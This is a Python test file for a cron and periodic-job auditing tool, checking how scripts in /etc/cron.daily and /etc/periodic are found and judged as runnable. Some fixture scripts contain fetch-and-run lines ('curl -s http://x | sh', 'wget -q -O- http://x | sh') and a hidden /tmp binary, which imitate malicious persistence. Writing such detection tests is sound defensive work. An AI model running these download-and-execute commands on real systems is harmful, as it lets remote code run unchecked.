"""Periodic folders: each script is a job with its folder's driver schedule and run-parts' rules."""

from __future__ import annotations

import os

from schedwarden.model import DrivenSchedule, Mechanism
from tests.conftest import ALPINE_OS_RELEASE, RHEL_OS_RELEASE, MakeRoot, run_collect

CRONTAB = (
    "25 6 * * * root test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }\n"
)
SCRIPT = "#!/bin/sh\n# rotate\nset -e\n\n/usr/sbin/logrotate /etc/logrotate.conf\n"


def _periodic(report_jobs):  # type: ignore[no-untyped-def]
    return {j.name: j for j in report_jobs if j.mechanism is Mechanism.PERIODIC}


def test_debian_daily_scripts(make_root: MakeRoot) -> None:
    """reference/linux.md (e) 1: update.sh (+x) and updater (no +x) are dormant on Debian."""
    root = make_root(
        {
            "etc/crontab": CRONTAB,
            "etc/cron.daily/logrotate": (SCRIPT, 0o755),
            "etc/cron.daily/update.sh": ("#!/bin/sh\ncurl -s http://x | sh\n", 0o755),
            "etc/cron.daily/updater": ("#!/bin/sh\n/tmp/.u\n", 0o644),
        }
    )
    (root / "etc/cron.daily/subdir").mkdir()
    report = run_collect(root)
    assert report.issues == ()
    jobs = _periodic(report.jobs)
    assert sorted(jobs) == [
        "/etc/cron.daily/logrotate",
        "/etc/cron.daily/update.sh",
        "/etc/cron.daily/updater",
    ]
    logrotate = jobs["/etc/cron.daily/logrotate"]
    assert logrotate.run_as == "root"
    assert logrotate.effective.runs is True
    assert isinstance(logrotate.schedule, DrivenSchedule)
    assert logrotate.schedule.cadence == "daily"
    assert logrotate.schedule.driver == "/etc/crontab:1"
    assert logrotate.schedule.description == (
        "Daily through run-parts from /etc/crontab:1: at 06:25"
    )
    assert logrotate.extra["interpreter"] == "/bin/sh"
    assert logrotate.extra["content_summary"] == "set -e ; /usr/sbin/logrotate /etc/logrotate.conf"
    assert logrotate.actions[0].command_line == "/etc/cron.daily/logrotate"  # type: ignore[union-attr]
    assert logrotate.next_runs[0].isoformat() == "2026-11-29T06:25:00+00:00"
    assert jobs["/etc/cron.daily/update.sh"].effective.runs is False
    assert "no dots" in jobs["/etc/cron.daily/update.sh"].effective.reason
    assert jobs["/etc/cron.daily/updater"].effective.runs is False
    assert "not executable" in jobs["/etc/cron.daily/updater"].effective.reason


def test_rhel_runs_dotted_names_through_anacron(make_root: MakeRoot) -> None:
    root = make_root(
        {
            "etc/anacrontab": "SHELL=/bin/sh\nSTART_HOURS_RANGE=3-22\n"
            "1\t5\tcron.daily\t\tnice run-parts /etc/cron.daily\n",
            "etc/cron.daily/update.sh": ("#!/bin/sh\necho hi\n", 0o755),
            "etc/cron.daily/x.rpmsave": ("#!/bin/sh\necho old\n", 0o755),
            "usr/sbin/anacron": ("", 0o755),
        },
        os_release=RHEL_OS_RELEASE,
    )
    jobs = _periodic(run_collect(root).jobs)
    assert jobs["/etc/cron.daily/update.sh"].effective.runs is True
    assert jobs["/etc/cron.daily/update.sh"].schedule.driver == "/etc/anacrontab:3"  # type: ignore[union-attr]
    assert jobs["/etc/cron.daily/x.rpmsave"].effective.runs is False


def test_folder_without_driver_is_undecided(make_root: MakeRoot) -> None:
    root = make_root({"etc/cron.weekly/job": ("#!/bin/sh\ntrue\n", 0o755)})
    [job] = _periodic(run_collect(root).jobs).values()
    assert job.effective.runs is None
    assert "nothing runs run-parts" in job.effective.reason
    assert job.next_runs == ()


def test_alpine_periodic_folders(make_root: MakeRoot) -> None:
    root = make_root(
        {
            "etc/crontabs/root": ("*/15\t*\t*\t*\t*\trun-parts /etc/periodic/15min\n", 0o600),
            "etc/periodic/15min/beacon": ("#!/bin/sh\nwget -q -O- http://x | sh\n", 0o755),
        },
        os_release=ALPINE_OS_RELEASE,
    )
    [job] = _periodic(run_collect(root).jobs).values()
    assert job.name == "/etc/periodic/15min/beacon"
    assert job.effective.runs is True
    assert job.schedule.description.startswith("15min through run-parts from /etc/crontabs/root:1")


def test_symlinked_script_records_its_target(make_root: MakeRoot) -> None:
    root = make_root({"etc/crontab": CRONTAB, "opt/tool/run": ("#!/bin/sh\ntrue\n", 0o755)})
    (root / "etc/cron.daily").mkdir()
    os.symlink("/opt/tool/run", root / "etc/cron.daily/tool")
    [job] = _periodic(run_collect(root).jobs).values()
    assert job.evidence.related == ("/opt/tool/run",)
    assert job.effective.runs is True
